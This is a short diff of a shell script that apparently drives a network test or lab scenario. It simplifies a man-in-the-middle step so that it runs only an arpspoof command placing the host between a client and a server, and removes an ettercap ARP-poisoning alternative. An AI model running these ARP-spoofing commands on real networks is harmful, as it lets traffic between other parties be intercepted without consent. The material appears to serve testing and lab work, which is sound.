@@ -1,15 +1,7 @@
 # Stand between the client and the server for a time.
-me=$(cat /sys/class/net/eth0/address)
 await visited
 phase spoof
-case $IMPLEMENTATION in
-arpspoof)
-	arpspoof -i eth0 -t "$CLIENT_ADDRESS" -r "$SERVER_ADDRESS" >/root/spoof 2>&1 &
-	;;
-ettercap)
-	ettercap -T -q -i eth0 -M arp:remote "/$CLIENT_ADDRESS//" "/$SERVER_ADDRESS//" </dev/null >/root/spoof 2>&1 &
-	;;
-esac
+arpspoof -i eth0 -t "$CLIENT_ADDRESS" -r "$SERVER_ADDRESS" >/root/spoof 2>&1 &
 spoof=$!
 signal between
 await over
